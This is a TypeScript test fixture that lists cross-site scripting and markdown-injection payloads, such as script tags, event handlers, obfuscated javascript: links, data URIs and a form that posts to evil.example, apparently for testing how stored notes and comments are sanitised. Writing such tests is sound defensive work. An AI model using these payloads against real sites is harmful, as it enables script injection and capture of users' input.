/**
 * What somebody may store as a note or a comment to make other people's pages run or load something. Whatever could be
 * loaded would come from evil.example. `actor`: somebody who can be mentioned.
 */
export function hostileTexts(actor: string): string[] {
  return [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --><b onmouseover=alert(1)>x",
    "<style>@import 'https://evil.example'</style>",
    "![x](https://evil.example/pixel.png)",
    '![x](https://evil.example/pixel.png "onload=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    '[x](https://a.example/"onmouseover=alert(1)//)',
    '[x](https://a.example "t\\" onmouseover=alert(1) ")',
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "`<script>`</script>",
    "**<b onclick=alert(1)>x</b>**",
    "- <details open ontoggle=alert(1)>",
    `@[<img src=x onerror=alert(1)>](actor:${actor})`,
    "@[x](actor:javascript:alert(1))",
    "javascript:alert(1) www.javascript:alert(1)",
    "http://javascript:alert(1)",
    "\u202ehttps://evil.example",
    "[x](mailto:a@b.example?subject=<script>)",
    "</div></p><form action=https://evil.example><input name=q>",
  ];
}
